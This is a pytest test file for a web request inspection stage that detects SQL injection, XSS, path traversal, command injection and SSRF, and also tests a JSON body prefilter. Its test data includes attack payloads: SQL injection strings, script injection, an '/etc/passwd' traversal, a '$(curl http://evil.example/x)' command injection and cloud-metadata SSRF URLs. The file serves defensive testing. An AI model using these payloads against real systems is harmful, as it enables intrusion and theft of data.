from __future__ import annotations

import importlib.util
import random
import sys
from pathlib import Path

import orjson
import pytest

from bastion.stages.input.config import CATEGORIES
from bastion.stages.input.inspection import Inspector, decoded_forms, load_rules, ssrf_target
from bastion.stages.input.jsonbody import JsonLimits, parse_counted, strings

ROOT = Path(__file__).resolve().parents[3]


def _bench():
    spec = importlib.util.spec_from_file_location("inspection_corpus", ROOT / "bench" / "inspection_corpus.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up while the class is created
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def pl1() -> Inspector:
    return Inspector(load_rules(), 1, set(CATEGORIES))


def test_every_rule_compiles_and_is_well_formed() -> None:
    rules = load_rules()
    assert len({r.id for r in rules.rules}) == len(rules.rules)
    for rule in rules.rules:
        assert rule.category in CATEGORIES and 1 <= rule.paranoia <= 4 and rule.score in (2, 3, 4, 5)
    assert {r.category for r in rules.rules} == set(CATEGORIES) - {"ssrf"}


@pytest.mark.parametrize(("value", "expected"), [
    ("%253Cscript%253E", "<script>"),
    ("&lt;img&gt;", "<img>"),
    ("\\x3cb\\u003e", "<b>"),
    ("%u003Cs%u003E", "<s>"),
    ("\uff1cscript\uff1e", "<script>"),
    ("1/**/union/*!50000select*/", "1  union select "),
    ("'+or+1", "' or 1"),
    ("a\x00b", "ab"),
    ("/./././etc", "/etc"),
    ("; w'h'o'am'i", "; whoami"),
])
def test_decoded_forms(value: str, expected: str) -> None:
    assert expected in decoded_forms(value)


@pytest.mark.parametrize(("value", "category"), [
    ("' OR '1'='1", "sqli"),
    ("1 UNION/**/SELECT password FROM users", "sqli"),
    ("<svg/onload=alert(1)>", "xss"),
    ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss"),
    ("..%2f..%2f..%2fetc%2fpasswd", "traversal"),
    ("$(curl http://evil.example/x)", "cmdi"),
    ("http://[::ffff:169.254.169.254]/", "ssrf"),
])
def test_attacks_are_found_with_their_category(pl1: Inspector, value: str, category: str) -> None:
    finding = pl1.inspect(value)
    assert finding is not None and finding.category == category and finding.score >= 5


@pytest.mark.parametrize("value", ["O'Brien", "SELECT the best option", "[docs](../guide.md)",
                                   "https://example.com/a?b=c", "Tom & Jerry; Spike", "", "x" * 10_000])
def test_benign_values_pass(pl1: Inspector, value: str) -> None:
    assert pl1.inspect(value) is None


@pytest.mark.parametrize(("value", "paranoia", "found"), [
    ("http://127.0.0.1/", 1, True),
    ("http://2130706433/", 1, True),
    ("http://0x7f.1/", 1, True),
    ("http://good.example@10.0.0.1/", 1, True),
    ("http://metadata.google.internal/", 1, True),
    ("http://10.0.0.1.nip.io/", 1, True),
    ("gopher://example.com/_x", 1, True),
    ("http://8.8.8.8/", 1, False),
    ("https://example.com/10.0.0.1", 1, False),
    ("server at 10.0.0.1/admin", 1, False),
    ("server at 10.0.0.1/admin", 2, True),
    ("http://db.internal/", 1, False),
    ("http://db.internal/", 2, True),
])
def test_ssrf_targets(value: str, paranoia: int, found: bool) -> None:
    assert (ssrf_target(value, load_rules().ssrf, paranoia) is not None) is found


def test_categories_and_threshold_are_honoured() -> None:
    rules = load_rules()
    only_xss = Inspector(rules, 1, {"xss"})
    assert only_xss.inspect("' OR 1=1--") is None and only_xss.inspect("<script>") is not None
    lenient = Inspector(rules, 1, set(CATEGORIES), threshold=100)
    assert lenient.inspect("<script>alert(1)</script>") is None


def test_higher_paranoia_adds_rules() -> None:
    rules = load_rules()
    counts = [len(Inspector(rules, level, set(CATEGORIES)).rules) for level in (1, 2, 3, 4)]
    assert counts == sorted(counts) and counts[0] < counts[3]
    assert Inspector(rules, 1, set(CATEGORIES)).inspect("<b>bold</b>") is None
    assert Inspector(rules, 3, set(CATEGORIES)).inspect("<b>bold</b>") is not None


def test_corpus_targets_hold_at_the_default_level() -> None:
    """Issue 6 target at paranoia 1: >= 90% detection and <= 1% false positives, per category."""
    bench = _bench()
    for rates in bench.evaluate(1):
        assert rates.attacks >= 60, rates.category
        assert rates.detection >= 0.90, (rates.category, rates.missed)
        assert rates.fp_rate <= 0.01, (rates.category, rates.flagged)
    for rates in bench.evaluate_holdout(1):  # never used for tuning: a guard against overfitting the rules
        assert rates.detection >= 0.85, (rates.category, rates.missed)
        assert rates.false_positives == 0, rates.flagged


# ---------------------------------------------------------------- the JSON body prefilter (Inspector.clean_json)

def _corpus_values() -> list[str]:
    bench = _bench()
    data = ROOT / "tests" / "data" / "inspection"
    files = sorted(data.glob("*.txt")) + sorted((data / "holdout").glob("*.txt"))
    return [value for path in files for value in bench.read(path.name, path.parent)]


def _bodies(value: str) -> list[bytes]:
    """The value as a JSON string in the places a body holds one: a value, a key, an array item, nested."""
    return [orjson.dumps(doc) for doc in (
        {"v": value}, {value: 1}, [value, "x"], {"a": {"b": [1, value]}, "id": "id"}, value,
    )]


def _all_clean(inspector: Inspector, body: bytes) -> bool:
    doc, members = parse_counted(body, _LIMITS)
    return all(inspector.inspect(s) is None for s in strings(doc))


_LIMITS = JsonLimits(32, 65536, 10000, 1000)


@pytest.mark.parametrize("paranoia", [1, 2, 3, 4])
def test_the_body_prefilter_never_clears_a_body_with_a_finding(paranoia: int) -> None:
    """`clean_json` True must mean that every string of the body inspects clean (the walk it skips): checked on
    every corpus value (attacks and look-alikes, tuning and hold-out) in five places of a body."""
    inspector = Inspector(load_rules(), paranoia, set(CATEGORIES))
    cleared = 0
    for value in _corpus_values():
        for body in _bodies(value):
            _, members = parse_counted(body, _LIMITS)
            if inspector.clean_json(body, members):
                cleared += 1
                assert _all_clean(inspector, body), body
    assert cleared > 100  # the fast path is taken for ordinary values, or this test proves nothing


@pytest.mark.parametrize("paranoia", [1, 2, 4])
def test_the_body_prefilter_agrees_with_the_walk_on_random_bodies(paranoia: int) -> None:
    """Random bodies made of rule fragments, words and separators (seeded: the same bodies every run)."""
    pieces = ["id", "union", " select", "cat", "ls", ";", "|", "'", "1", " or ", "=", "..", "/", "etc", "passwd",
              "<", "script", ">", "on", "error", "127.0.0.1", "10.0.0.5", " ", "-", "--", "#", "(", ")", "$",
              "`", "sleep", "name", "data", ":", "//", "http", "localhost", "@", ".", "a", "b", "json_keys",
              "mkfifo", "\n", "é", "%2e", "&amp;", "+", "\\"]
    rng = random.Random(1707)
    inspector = Inspector(load_rules(), paranoia, set(CATEGORIES))
    cleared = 0
    for _ in range(3000):
        values = ["".join(rng.choice(pieces) for _ in range(rng.randint(1, 6))) for _ in range(rng.randint(1, 4))]
        doc = {rng.choice(["id", "name", "q", values[0]]): values[0], "list": values[1:],
               "n": rng.randint(0, 9)}
        body = orjson.dumps(doc)
        _, members = parse_counted(body, _LIMITS)
        if inspector.clean_json(body, members):
            cleared += 1
            assert _all_clean(inspector, body), body
    assert cleared > 200


def test_the_body_prefilter_clears_an_ordinary_order(pl1: Inspector) -> None:
    body = (ROOT / "bench" / "payload_1k.json").read_bytes()
    assert pl1.clean_json(body, parse_counted(body, _LIMITS)[1])
    # keys such as `id` after the line breaks that stand for quotes are not `\n id` commands
    assert pl1.clean_json(b'{"id": "id", "cmd": ["ls", "env"]}', 2)


@pytest.mark.parametrize("body", [
    b'{"q": "1 union select password from users"}',  # a rule matches
    b'{"q": "%27 OR 1=1--"}',  # a decoding to do: the walk decodes it
    b'{"q": "caf\\u00e9"}',  # an escape: the string is not verbatim in the text
    b'{"q": "http://example.com/"}',  # a colon inside a string: a URL for the SSRF parser
    b'{"q": "it\'s; fine"}',  # a quote and a shell metacharacter: a decoded form without the quotes
])
def test_the_body_prefilter_leaves_anything_else_to_the_walk(pl1: Inspector, body: bytes) -> None:
    assert not pl1.clean_json(body, parse_counted(body, _LIMITS)[1])


def test_a_bare_address_is_left_to_the_walk_from_its_paranoia_level() -> None:
    body = b'{"note": "call 10.1.2.3 later"}'
    assert Inspector(load_rules(), 1, set(CATEGORIES)).clean_json(body, 1)
    assert not Inspector(load_rules(), 2, set(CATEGORIES)).clean_json(body, 1)
